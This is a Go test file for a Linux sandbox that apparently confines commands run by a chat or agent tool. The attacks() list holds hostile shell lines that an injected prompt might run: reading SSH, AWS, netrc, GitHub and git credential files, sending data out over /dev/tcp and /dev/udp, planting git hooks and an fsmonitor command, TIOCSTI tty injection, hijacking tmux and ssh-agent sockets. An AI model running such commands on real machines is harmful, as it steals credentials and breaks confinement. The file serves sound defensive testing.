//go:build linux

package sandbox

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chatrepl/chat/internal/asuser"
	"golang.org/x/sys/unix"
)

// attackWorld is a person's machine in small: a home full of
// credentials, a repository to work in (with a nested one), a place
// outside, listeners on loopback (TCP and UDP), a tmux server and an
// ssh-agent holding a key, all the person's.
type attackWorld struct {
	home, work, outside string
	tcp                 net.Listener
	udp                 net.PacketConn
	tmuxSock, agentSock string
	agentPub            string
	secrets             []string
}

func newAttackWorld(t *testing.T) *attackWorld {
	t.Helper()
	// Not under /tmp: the box has its own /tmp, and the attacks must aim
	// at paths it can see.
	base := asuser.DirIn(t, "/var/tmp", asuser.Current())
	w := &attackWorld{home: filepath.Join(base, "home"), work: filepath.Join(base, "work"), outside: filepath.Join(base, "outside")}
	files := map[string]string{
		".ssh/id_rsa":              "SECRET-SSH-KEY",
		".aws/credentials":         "aws_secret_access_key = SECRET-AWS",
		".netrc":                   "machine x login me password SECRET-NETRC",
		".config/gh/hosts.yml":     "oauth_token: SECRET-GH",
		".config/chat/config.toml": "api_key = \"SECRET-CHAT-API-KEY\"",
		".bash_history":            "export TOKEN=SECRET-HISTORY",
		".git-credentials":         "https://me:SECRET-GIT-CRED@example.com",
	}
	for rel, content := range files {
		p := filepath.Join(w.home, rel)
		_ = os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		w.secrets = append(w.secrets, strings.Fields(content)[len(strings.Fields(content))-1])
	}
	for _, d := range []string{w.work + "/.git/hooks", w.work + "/sub/.git/hooks", w.work + "/src", w.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	_ = os.WriteFile(filepath.Join(w.work, ".git", "config"), []byte("[core]\n"), 0o644)
	var err error
	if w.tcp, err = net.Listen("tcp4", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.tcp.Close() })
	go func() {
		for {
			c, err := w.tcp.Accept()
			if err != nil {
				return
			}
			_ = os.WriteFile(filepath.Join(base, "tcp-accepted"), nil, 0o644)
			c.Close()
		}
	}()
	if w.udp, err = net.ListenPacket("udp4", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.udp.Close() })
	// The person's session sockets live in /tmp, as they do.
	sockDir, err := os.MkdirTemp("/tmp", "chat-attack-sockets-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	if tmux, err := exec.LookPath("tmux"); err == nil {
		w.tmuxSock = filepath.Join(sockDir, "tmux")
		if out, err := exec.Command(tmux, "-S", w.tmuxSock, "new-session", "-d", "-s", "person", "sleep 600").CombinedOutput(); err != nil {
			t.Fatalf("tmux: %v %s", err, out)
		}
		t.Cleanup(func() { _ = exec.Command(tmux, "-S", w.tmuxSock, "kill-server").Run() })
	}
	if agent, err := exec.LookPath("ssh-agent"); err == nil {
		w.agentSock = filepath.Join(sockDir, "agent")
		key := filepath.Join(sockDir, "throwaway")
		if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
			t.Fatalf("ssh-keygen: %v %s", err, out)
		}
		cmd := exec.Command(agent, "-D", "-a", w.agentSock)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
		for i := 0; i < 3000 && !exists(w.agentSock); i++ { // 30 s: generous under load
			time.Sleep(10 * time.Millisecond)
		}
		add := exec.Command("ssh-add", key)
		add.Env = []string{"SSH_AUTH_SOCK=" + w.agentSock}
		if out, err := add.CombinedOutput(); err != nil {
			t.Fatalf("ssh-add: %v %s", err, out)
		}
		w.agentPub = key + ".pub"
		_ = os.Remove(key)
	}
	return w
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

// attacks are what an injected prompt would run, and the harm each
// would leave if it worked.
func (w *attackWorld) attacks() []string {
	out := filepath.Join(w.outside, "pwned")
	udpPort := w.udp.LocalAddr().(*net.UDPAddr).Port
	tcpPort := w.tcp.Addr().(*net.TCPAddr).Port
	a := []string{
		"echo x > " + out,
		"echo x > .git/hooks/pre-commit; echo x > sub/.git/hooks/pre-commit",
		"printf '[core]\\n\\tfsmonitor = touch " + out + "\\n' >> .git/config",
		"cd " + w.home + " && cat .ssh/id_rsa .aws/credentials .netrc .config/gh/hosts.yml .config/chat/config.toml .bash_history .git-credentials",
		fmt.Sprintf("echo SECRET-UDP > /dev/udp/127.0.0.1/%d", udpPort),
		fmt.Sprintf("perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:%d\",Proto=>\"udp\")->send(\"SECRET-UDP\")'", udpPort),
		fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo hi >&3", tcpPort),
		"grep CapEff /proc/self/status",
		"mknod blockdev b 7 0; mknod chardev c 1 3",
		"perl -e 'require \"sys/ioctl.ph\"; open(T, \"+<\", \"/dev/tty\") or die \"no tty: $!\"; ioctl(T, 0x5412, \"x\") or die \"TIOCSTI: $!\"; print \"TYPED\"'",
		"unshare -Ur true && echo UNSHARED",
	}
	if w.tmuxSock != "" {
		a = append(a, "tmux -S "+w.tmuxSock+" new-window 'touch "+out+"-tmux'", "for s in /tmp/chat-attack-sockets-*/tmux; do tmux -S $s new-window 'touch "+out+"-tmux'; done")
	}
	if w.agentSock != "" {
		a = append(a, "echo data > data && SSH_AUTH_SOCK="+w.agentSock+" ssh-keygen -Y sign -f "+w.agentPub+" -n file data",
			"for s in /tmp/chat-attack-sockets-*/agent; do SSH_AUTH_SOCK=$s ssh-add -L; done")
	}
	return a
}

// harm is what the attacks achieved, checked on the host.
func (w *attackWorld) harm(outputs string) []string {
	var harm []string
	for _, p := range []string{filepath.Join(w.outside, "pwned"), filepath.Join(w.outside, "pwned-tmux"), filepath.Join(w.work, ".git/hooks/pre-commit"),
		filepath.Join(w.work, "sub/.git/hooks/pre-commit"), filepath.Join(w.work, "data.sig"), filepath.Join(w.work, "blockdev"), filepath.Join(w.work, "chardev"),
		filepath.Join(filepath.Dir(w.work), "tcp-accepted")} {
		if exists(p) {
			harm = append(harm, "made "+p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(w.work, ".git", "config")); string(b) != "[core]\n" {
		harm = append(harm, ".git/config changed")
	}
	if !strings.Contains(outputs, "CapEff:\t0000000000000000") {
		harm = append(harm, "capabilities in the box")
	}
	_ = w.udp.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
	if n, _, err := w.udp.ReadFrom(make([]byte, 64)); err == nil && n > 0 {
		harm = append(harm, "a UDP datagram left the box")
	}
	for _, s := range append(w.secrets, "TYPED", "UNSHARED", "ssh-ed25519") {
		if strings.Contains(outputs, s) {
			harm = append(harm, "the output holds "+s)
		}
	}
	return harm
}

// TestAttacksFailForEveryUserAndEngine runs the attacks in every engine
// this machine has, as root and as an ordinary user, with chat's
// process made non-dumpable as chat makes it.
func TestAttacksFailForEveryUserAndEngine(t *testing.T) {
	needLandlock(t)
	for _, u := range asuser.Both(t) {
		if u.UID != os.Getuid() {
			t.Run("as "+u.Name, func(t *testing.T) { asuser.RunTest(t, u) })
			continue
		}
		if err := unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0) })
		for _, engine := range []Engine{Bubblewrap, Namespaces, LandlockOnly} {
			t.Run(fmt.Sprintf("uid %d/%s", u.UID, engine), func(t *testing.T) {
				w := newAttackWorld(t)
				spec := Spec{Mode: WorkspaceWrite, Workdir: w.work, Hidden: DefaultHidden(w.home), TempDir: filepath.Join(filepath.Dir(w.work), "tmp")}
				switch engine {
				case Bubblewrap:
					if spec.Bwrap = FindBwrap(""); spec.Bwrap == "" {
						t.Skip("bubblewrap is not installed (apt-get install bubblewrap)")
					}
				case LandlockOnly:
					spec.NoNamespaces = true
				}
				b := startBox(t, spec)
				if b.Engine() != engine {
					t.Fatalf("the box is %s, not %s: %s", b.Engine(), engine, b.Notes())
				}
				var outputs, transcript strings.Builder
				for _, line := range w.attacks() {
					out, _ := shell(t, b, w.work, line)
					outputs.WriteString(out)
					fmt.Fprintf(&transcript, "$ %s\n%s\n", line, out)
				}
				if harm := w.harm(outputs.String()); len(harm) > 0 {
					t.Errorf("the box let through:\n%s\n\n%s", strings.Join(harm, "\n"), transcript.String())
				}
				// Without namespaces, new entries cannot be made beside a
				// protected path (.git): work happens in src/.
				if out, code := shell(t, b, filepath.Join(w.work, "src"), "echo work > made.txt && mkdir -p a/b && cat made.txt && echo tmp > $TMPDIR/t && cat $TMPDIR/t"); code != 0 || out != "work\ntmp\n" {
					t.Errorf("plain work failed: %d %q", code, out)
				}
				if engine == LandlockOnly {
					return // it sees other processes and cannot take grandchildren down: Notes says so
				}
				if out, _ := shell(t, b, w.work, fmt.Sprintf("test -e /proc/%d && echo VISIBLE", os.Getpid())); strings.Contains(out, "VISIBLE") {
					t.Error("the box sees chat's process")
				}
				marker := fmt.Sprintf("attack-sleeper-%d-%s", os.Getpid(), engine)
				shell(t, b, w.work, "setsid bash -c 'exec -a "+marker+" sleep 300' </dev/null >/dev/null 2>&1 &")
				b.Close()
				for deadline := time.Now().Add(10 * time.Second); processRunning(marker); time.Sleep(20 * time.Millisecond) {
					if time.Now().After(deadline) {
						t.Fatal("a setsid child outlived its box")
					}
				}
			})
		}
	}
}

func processRunning(marker string) bool {
	out, _ := exec.Command("pgrep", "-f", marker).Output()
	return len(bytes.TrimSpace(out)) > 0
}
